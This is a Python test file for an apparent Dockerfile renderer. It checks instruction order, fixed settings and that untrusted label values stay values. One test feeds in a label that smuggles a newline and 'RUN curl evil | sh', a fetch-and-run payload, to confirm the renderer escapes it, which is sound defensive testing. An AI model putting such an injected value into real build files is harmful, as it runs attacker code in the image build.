"""The text of the Dockerfile: order, facts, and that a value stays a value."""

import re
import shlex

from hypothesis import given
from hypothesis import strategies as st

from mlpack.builders.dockerfile import Recipe, render


def instructions(text: str) -> list[str]:
    joined = re.sub(r"\\\n\s*", "", text)
    return [line for line in joined.splitlines() if line and not line.startswith("#")]


def test_what_changes_rarely_comes_first() -> None:
    lines = instructions(render(Recipe("python:3.11-slim", environment={"A": "b"})))
    copies = [line.split()[1] for line in lines if line.startswith("COPY")]
    assert lines[0] == "FROM python:3.11-slim"
    assert copies == ["install/", "runtime/", "model/"]
    assert [line.split()[0] for line in lines[-2:]] == ["COPY", "ENV"]


def test_two_models_differ_only_below_the_runtime() -> None:
    one = render(Recipe("python:3.11-slim", labels={"a": "1"}, environment={"B": "2"}))
    two = render(Recipe("python:3.11-slim", labels={"a": "3"}, environment={"B": "4"}))
    assert one.split("COPY model/")[0] == two.split("COPY model/")[0]


def test_facts() -> None:
    text = render(Recipe("python:3.11-slim", platform="linux/arm64"))
    assert "FROM --platform=linux/arm64 python:3.11-slim\n" in text
    assert 'ENTRYPOINT ["python", "-m", "mlpack.serve"]\nCMD ["serve"]\n' in text
    assert re.search(r"^USER \d+:\d+$", text, re.M)
    for fact in ("EXPOSE 8080", "STOPSIGNAL SIGTERM", "HEALTHCHECK --interval="):
        assert fact in text
    assert "LABEL" not in text
    assert not re.search(r"^ARG", text, re.M)


@given(st.text(max_size=40), st.text(max_size=40))
def test_no_value_becomes_an_instruction(key: str, value: str) -> None:
    """run_id and the like come from a file that a stranger may have written."""
    lines = instructions(render(Recipe("b", labels={"k": "v"})))
    hostile = instructions(render(Recipe("b", labels={f"k{key}": value})))
    assert [line.split()[0] for line in lines] == [line.split()[0] for line in hostile]
    (word,) = shlex.split(hostile[-1].removeprefix("LABEL "))
    assert word.split("=", 1)[0].startswith("k")


def test_a_line_break_in_a_label() -> None:
    text = render(Recipe("b", labels={"mlpack.run.id": 'x"\nRUN curl evil | sh\n#$HOME\\'}))
    assert text.endswith('LABEL mlpack.run.id="x\\" RUN curl evil | sh #\\$HOME\\\\"\n')
